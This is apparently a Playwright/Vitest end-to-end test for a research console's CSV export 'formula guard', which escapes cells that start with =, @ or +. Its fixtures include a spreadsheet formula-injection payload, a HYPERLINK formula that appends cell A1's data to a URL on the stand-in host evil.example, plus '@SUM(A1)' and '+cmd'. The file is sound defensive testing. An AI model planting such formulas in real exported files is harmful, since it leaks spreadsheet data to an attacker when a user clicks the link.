import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { dailyExportConfigs, reports, surveyResponses } from "@studyflow/db";
import { mintManagementToken } from "@studyflow/domain/access";
import { createStudy, grantPermission } from "@studyflow/domain/study-setup";
import { publishSurveyVersion } from "@studyflow/domain/surveys";
import { createTestApp, type TestApp } from "@studyflow/api/testing";
import { startWorkerBesideApi } from "@studyflow/worker/testing";
import { openConsole, signInToConsole, startConsoleBrowser, type ConsoleBrowser } from "./browser";

/**
 * The console's exports page and the formula guard, in Chromium: on by default for response and
 * report CSV files, off when the researcher unticks it (case-backend's exact bytes), and kept in
 * the daily export settings.
 */

const STUDY = "guard-console";
const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")';
/** The cell as Go's csv writer puts it: quoted, quotes doubled. */
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

const localised = (value: string) => [{ code: "en", parts: [{ dtype: "str", str: value }] }];
const survey = {
  surveyDefinition: {
    key: "notes",
    items: [
      {
        key: "notes.Q1",
        components: {
          role: "root",
          items: [
            { role: "title", content: localised("Anything else?") },
            { role: "responseGroup", key: "rg", items: [{ role: "input", key: "txt", content: localised("Text") }] },
          ],
        },
      },
    ],
  },
};

describe("the console's exports page: the formula guard", () => {
  let t: TestApp;
  let ui: ConsoleBrowser;
  let base: string;
  let page: Page;
  let worker: ReturnType<typeof startWorkerBesideApi>;
  let token: string;

  beforeAll(async () => {
    const resultDir = await mkdtemp(path.join(tmpdir(), "sf-console-guard-"));
    t = await createTestApp({ env: { RESULT_DIR: resultDir } });
    const db = t.database.db;
    await createStudy(db, { key: STUDY });
    const version = await publishSurveyVersion(db, { studyKey: STUDY, actor: "seed", survey }, { clock: Date.now });
    await db.insert(surveyResponses).values(
      [EVIL, "-5", "@SUM(A1)"].map((text, i) => ({
        studyKey: STUDY,
        participantId: `p${i}`,
        key: "notes",
        versionId: version.versionId,
        openedAt: 1_780_000_000 + i,
        submittedAt: 1_780_000_100 + i,
        arrivedAt: 1_780_000_200 + i,
        responses: [{ key: "notes.Q1", response: { key: "rg", items: [{ key: "txt", value: text }] } }],
      })),
    );
    await db.insert(reports).values({
      studyKey: STUDY,
      participantId: "p0",
      key: "note",
      eventType: "SUBMIT",
      timestamp: 1_780_000_300,
      data: [{ key: "text", value: "+cmd" }],
    });
    await grantPermission(db, "dr-guard", STUDY, "*");
    token = await mintManagementToken({
      now: Date.now(),
      subject: "dr-guard",
      isAdmin: false,
      secret: t.config.MANAGEMENT_JWT_SECRET,
    });
    worker = startWorkerBesideApi(t, resultDir);
    ui = await startConsoleBrowser(t.app.fetch, { acceptDownloads: true, timeoutMs: 15_000 });
    ({ base, page } = ui);
  });
  afterAll(async () => {
    await ui?.close();
    await worker?.stop();
    await t?.close();
  });

  /** Starts the export the form is set to, waits for it and returns the downloaded file's text. */
  async function startAndDownload(): Promise<string> {
    const runs = page.locator(".export-progress");
    const before = await runs.count();
    await page.getByRole("button", { name: "Start the export" }).click();
    // the newest run is put first
    await expect.poll(() => runs.count()).toBe(before + 1);
    const id = await runs.first().getAttribute("data-task-id");
    const run = page.locator(`.export-progress[data-task-id="${id}"]`);
    await page.locator(`.export-progress[data-task-id="${id}"][data-status="completed"]`).waitFor({ timeout: 30_000 });
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      run.getByRole("button", { name: "Download the file" }).click(),
    ]);
    return readFile(await download.path(), "utf8");
  }

  it("guards response and report CSV by default; unticked, the file is case-backend's bytes", async () => {
    await signInToConsole(page, base, token);
    await openConsole(page, base, `#/studies/${STUDY}/exports`);
    const guard = page.locator("#export-guard-formulas");
    expect(await page.locator(".export-form").getByLabel("Guard against spreadsheet formulas").isChecked()).toBe(true);

    await page.locator("#export-survey").fill("notes");
    await page.locator("#export-format").selectOption("wide");
    const guarded = await startAndDownload();
    expect(guarded).toContain(`,${cell("'" + EVIL)}\n`);
    expect(guarded).toContain(",'@SUM(A1)\n");
    expect(guarded).toContain(",-5\n");

    await guard.uncheck();
    const plain = await startAndDownload();
    expect(plain).toContain(`,${cell(EVIL)}\n`);
    expect(plain).toContain(",@SUM(A1)\n");
    expect(plain.split("\n")[0]).toBe(guarded.split("\n")[0]);

    await page.locator("#export-kind").selectOption("reports");
    await page.locator("#export-report-type").selectOption("csv");
    await guard.check();
    expect((await startAndDownload()).split("\n")[1]).toMatch(/,'\+cmd$/);
    await guard.uncheck();
    expect((await startAndDownload()).split("\n")[1]).toMatch(/,\+cmd$/);

    // participant exports are JSON: the switch is not offered there
    await page.locator("#export-kind").selectOption("participants");
    expect(await guard.isVisible()).toBe(false);
    expect(ui.policyViolations).toEqual([]);
  });

  it("daily export settings: guarded by default, unticked and saved it stays off after a reload", async () => {
    await openConsole(page, base, `#/studies/${STUDY}/exports`);
    const settings = page.locator(".daily-settings");
    await settings.getByText("No daily exports are set up.").waitFor();
    const guard = page.locator("#daily-guard-formulas");
    expect(await guard.isChecked()).toBe(true);
    await settings.getByRole("checkbox", { name: "notes", exact: true }).check();
    await page.getByRole("button", { name: "Save the daily export settings" }).click();
    await settings.getByText("The daily export settings are saved.").waitFor();
    expect(await settings.locator(".daily-summary").innerText()).toMatch(/Formula guard\s+on/);
    const stored = async () =>
      (await t.database.db.select().from(dailyExportConfigs).where(eq(dailyExportConfigs.studyKey, STUDY)))[0];
    expect((await stored())?.options.guardFormulas).toBe(true);

    await guard.uncheck();
    await page.getByRole("button", { name: "Save the daily export settings" }).click();
    await settings.getByText("The daily export settings are saved.").waitFor();
    expect((await stored())?.options.guardFormulas).toBe(false);
    await page.reload();
    await settings.locator(".daily-summary dl").waitFor();
    expect(await settings.locator(".daily-summary").innerText()).toMatch(/Formula guard\s+off/);
    expect(await page.locator("#daily-guard-formulas").isChecked()).toBe(false);
  });
});
